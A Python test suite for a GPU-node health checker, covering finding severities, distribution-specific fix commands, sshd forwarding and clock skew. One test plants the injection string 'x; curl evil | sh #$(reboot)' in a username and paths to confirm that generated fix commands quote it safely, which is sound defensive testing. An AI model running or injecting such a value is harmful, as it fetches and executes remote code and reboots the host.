"""What judge() answers with as a whole: nothing on a healthy node, nothing of what is unknown, the worst first."""

from __future__ import annotations

import re
import shlex
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from llmgw.core import fit
from llmgw.core.findings import RULES, judge
from llmgw.core.findings.rules import Facts, listed, quoted, sentence, version
from llmgw.model.node import Address, LinkState, Node, NodeState
from llmgw.model.preflight import Preflight
from llmgw.model.probe import Probe
from llmgw.model.surroundings import Surroundings, skew

from .node import GPU, NVIDIA, PREFLIGHT, PROBE, changed, judged

LEAST = {
    "schema": 2,
    "at": 0.0,
    "hostname": "gpu01",
    "boot_id": "b",
    "python": {"executable": "/usr/bin/python3", "version": "3.11.2"},
    "user": {"name": "anna", "uid": 1000},
    "os": {"arch": "x86_64"},
    "root": {"path": "/home/anna/.local/share/llmgw"},
}
"""A probe that could read nothing."""


def test_there_are_at_least_forty_and_each_is_told_apart() -> None:
    codes = [rule.code for rule in RULES]
    assert len(codes) >= 40
    assert len(set(codes)) == len(codes)
    assert all(re.fullmatch(r"[a-z][a-z0-9_]+", code) for code in codes)


def test_each_says_why_it_matters_and_what_to_do() -> None:
    for rule in RULES:
        assert rule.means.endswith("."), rule.code
        assert rule.fix or rule.severity == "note", f"{rule.code} has no fix"


def test_codes_that_others_know_are_still_there() -> None:
    known = (
        "gpu_driver_mismatch gpu_tool_hangs gpu_error gpu_no_driver gpu_missing unsafe_root unwritable_root noexec_root"
    )
    errors = {rule.code for rule in RULES if rule.severity == "error"}
    assert set(known.split()) <= errors
    assert {"cpu_no_avx2", "low_disk", "loose_home"} <= {rule.code for rule in RULES if rule.severity == "warning"}


def test_nothing_is_wrong_with_a_healthy_node() -> None:
    assert judged() == {}
    assert judged({"gpus": [GPU], "nvidia": NVIDIA}) == {}


def test_the_probe_alone_is_enough_for_its_part() -> None:
    found = judge(Probe.model_validate(changed(PROBE, {"root.noexec": True, "memory.total": 1 << 30})))
    assert [one.code for one in found] == ["noexec_root", "memory_low"]


def test_nothing_at_all_gives_nothing() -> None:
    assert judge(None) == []
    assert judge(None, None, Surroundings()) == []


def test_what_is_not_known_is_not_bad() -> None:
    """But for the two facts without which nothing can be placed."""
    empty = {"schema": 1, "at": 0.0, "hostname": "gpu01"}
    found = judge(Probe.model_validate(LEAST), Preflight.model_validate(empty))
    assert {one.code for one in found} == {"libc_unknown", "memory_unknown"}


def test_each_fact_that_goes_missing_makes_no_finding() -> None:
    for key in set(PROBE) - set(LEAST):
        less = {name: value for name, value in PROBE.items() if name != key}
        codes = {one.code for one in judge(Probe.model_validate(less), Preflight.model_validate(PREFLIGHT))}
        assert codes <= {"libc_unknown", "memory_unknown"}, (key, codes)
    for key in set(PREFLIGHT) - {"schema", "at", "hostname"}:
        less = {name: value for name, value in PREFLIGHT.items() if name != key}
        assert judge(Probe.model_validate(PROBE), Preflight.model_validate(less)) == [], key


def test_the_worst_comes_first() -> None:
    found = judged({"root.noexec": True, "root.free": 1, "user.shell": "/bin/fish"}, {"shell": None})
    assert [(one.code, one.severity) for one in found.values()] == [
        ("noexec_root", "error"),
        ("low_disk", "warning"),
        ("shell_unusual", "note"),
    ]


def test_only_an_error_closes_a_node() -> None:
    def closed(*changes: dict[str, Any]) -> str | None:
        node = Node(
            id="n1",
            address=Address(host="n1", user="anna"),
            host_key="",
            state=NodeState.READY,
            link=LinkState.UP,
            problems=tuple(judged(*changes).values()),
        )
        return fit.closed(node)

    assert closed({"root.noexec": True}) is not None
    assert closed({"root.free": 1, "cpu.flags": []}, {"sshd.max_sessions": 1}) is None


def test_an_older_document_is_judged_too() -> None:
    """Schema 1 had fewer facts, and problems of its own that are nobody's business any more."""
    old = {**LEAST, "schema": 1, "nvidia": {"driver": "550.54.15", "kernel_module": "550.54.15", "cards_on_pci": 8}}
    old["problems"] = [{"code": "gpu_error", "severity": "error", "message": "x"}]
    found = judge(Probe.model_validate(old))
    assert "error" not in {one.severity for one in found}


@pytest.mark.parametrize(
    ("system", "manager", "command"),
    [
        ("ubuntu", None, "sudo apt-get install libgomp1"),
        ("rocky", None, "sudo dnf install libgomp"),
        ("opensuse-leap", None, "sudo zypper install libgomp1"),
        ("arch", None, "sudo pacman -S gcc-libs"),
        ("alpine", None, "sudo apk add libgomp"),
        ("nixos", None, "Install libgomp.so.1 there."),
        ("debian", "dnf", "sudo dnf install libgomp"),
    ],
)
def test_a_fix_is_a_command_of_that_distribution(system: str, manager: str | None, command: str) -> None:
    found = judged({"os.id": system}, {"packages.manager": manager, "libraries": {"libgomp.so.1": False}})
    assert found["library_missing"].fix == command


def test_root_needs_no_sudo() -> None:
    found = judged({"user": {"name": "root", "uid": 0, "home": "/root"}}, {"oom.overcommit": 2})
    assert found["overcommit_strict"].fix == "sysctl vm.overcommit_memory=0"
    assert Facts().root("reboot") == "sudo reboot"


def test_what_a_node_calls_itself_is_one_word_of_a_command() -> None:
    evil = "x; curl evil | sh #$(reboot)"
    found = judged(
        {
            "user": {"name": evil, "uid": 7, "home": f"/{evil}"},
            "home_mode": 0o777,
            "root.place": f"/{evil}",
            "root.inodes_free": 1,
        },
        {"shell.login": "/bin/false", "devices": [{"path": "/dev/kfd", "ok": False, "group": evil}]},
    )
    for code in ("loose_home", "few_inodes", "shell_closed", "gpu_no_access"):
        fix = found[code].fix
        command = fix.split("`")[1] if "`" in fix else fix
        assert not [word for word in shlex.split(command) if word in ("curl", "sh", "|")], command


def test_a_forbidden_and_a_limited_forwarding_are_told_apart() -> None:
    assert set(judged({}, {"sshd.permit_open": ["10.0.0.1:80"]}, {"forwarding": False})) == {"forwarding_limited"}
    assert set(judged({}, {"sshd.allow_tcp_forwarding": "no"}, {"forwarding": False})) == {"forwarding_forbidden"}
    assert set(judged({}, {"sshd.allow_tcp_forwarding": "no"}, {"forwarding": True})) == set()


def test_a_home_that_did_not_answer_is_not_judged_by_another_place() -> None:
    tmp, shm = ({**PREFLIGHT["mounts"][place], "read_only": True, "writable": False} for place in (2, 3))
    assert set(judged({}, {"mounts": [PREFLIGHT["mounts"][0], tmp, shm]})) == {"tmp_unwritable"}


def test_where_no_key_is_left_it_matters_not_which_keys_are_read() -> None:
    elsewhere = {"sshd.pubkey": False, "sshd.authorized_keys_file": ["/etc/keys/%u"]}
    assert set(judged({}, elsewhere)) == {"pubkey_off", "keys_elsewhere"}
    assert judged({}, elsewhere, {"own_key": False}) == {}


def test_a_hostname_that_is_no_name_is_in_the_way_only_where_no_name_is_given() -> None:
    (problem,) = judged({"hostname": "GPU 01!"}).values()
    assert (problem.severity, "`--name NAME`" in problem.fix) == ("error", True)
    assert set(judged({"hostname": "GPU 01!"}, node_id="n1")) == {"hostname_differs"}


def test_a_fix_goes_on_after_with_another_sentence() -> None:
    assert sentence("sudo reboot") == "Run `sudo reboot`."
    assert sentence("Drain the node") == "Drain the node."
    assert sentence("Drain the node.") == "Drain the node."
    assert sentence("") == ""


def test_what_breaks_often_is_said_shortly() -> None:
    pythons = [{"path": f"/shims/python3.{minor}", "fault": "ended: " + "a, b. " * 99} for minor in range(7)]
    message = judged({}, {"pythons": pythons})["python_broken"].message
    assert len(message) < 400
    assert message.endswith("), and 5 more")


@pytest.mark.parametrize(
    ("at", "off"),
    [(100.0, 0.0), (104.0, 0.0), (99.0, -1.0), (107.0, 2.0), (7300.0, 7195.0)],
)
def test_a_clock_is_off_only_by_what_the_way_does_not_explain(at: float, off: float) -> None:
    assert skew(at, sent=100.0, received=105.0) == off


def test_words() -> None:
    assert listed([]) == ""
    assert listed(["a"]) == "a"
    assert listed(["a", "b"]) == "a and b"
    assert listed("abcdef") == "a, b, c and 3 more"
    assert quoted(" a\n b ") == "a b"
    assert len(quoted("x" * 999)) == 200
    assert version("550.54.15") == (550, 54, 15)
    assert version("6.1.0-18-amd64") == (6, 1, 0, 18)
    assert version("N/A") == version(None) == ()


def _paths(value: Any, above: str = "") -> list[str]:
    """Every place of a document, `a.b.0`."""
    inside = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [path for key, each in inside for path in (f"{above}{key}", *_paths(each, f"{above}{key}."))]


RICH = {**PROBE, "gpus": [GPU, GPU], "nvidia": NVIDIA, "gpu_processes": [{"pid": 1}], "xid": [{"xid": 79}]}
ODD = st.sampled_from([None, True, False, 0, 1, -1, 2**62, 0.5, "", "0", "x y\n", "\x1b[31m", [], {}])


def _twisted(base: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    return st.dictionaries(st.sampled_from(_paths(base)), ODD, max_size=12)


def _bent(kind: Any, base: dict[str, Any], changes: dict[str, Any]) -> Any:
    """The document with those of the changes that its type lets through."""
    for path, value in changes.items():
        try:
            bent = changed(base, {path: value})
            kind.model_validate(bent)
        except (ValueError, TypeError, KeyError, IndexError, AttributeError):
            continue
        base = bent
    return kind.model_validate(base)


@settings(max_examples=300, deadline=None)
@given(_twisted(RICH), _twisted(PREFLIGHT))
def test_no_document_makes_it_fall_over(probe: dict[str, Any], preflight: dict[str, Any]) -> None:
    for found in judge(_bent(Probe, RICH, probe), _bent(Preflight, PREFLIGHT, preflight), ports=(41000, 41999)):
        assert found.message
        assert (found.message + found.fix).isprintable()
